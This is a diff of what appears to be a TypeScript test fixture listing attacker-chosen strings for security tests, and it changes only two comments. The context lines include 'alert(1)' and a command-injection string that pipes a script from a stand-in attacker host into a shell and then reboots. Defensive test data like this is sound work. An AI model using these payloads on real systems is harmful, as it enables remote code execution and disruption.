@@ -1,4 +1,4 @@
-/** Texts as attackers choose them: names of files, mails, hosts and users end up in incidents word by word. */
+/** Texts that an attacker may choose. Names of files, emails, hosts and users appear unchanged in incidents. */
 
 const PAYLOADS = [
   'alert(1)',
@@ -182,7 +182,7 @@ const WORDS = [
   '$(curl https://attacker.example|sh)`id`;reboot',
 ];
 
-/** At least 200 texts, each once: markup, script addresses, bidi, invisible and control characters, formulas, lengths, scripts. */
+/** At least 200 distinct texts: markup, script URLs, bidi, invisible and control characters, formulas, long texts, scripts. */
 export function hostileStrings(): readonly string[] {
   return [
     ...new Set([
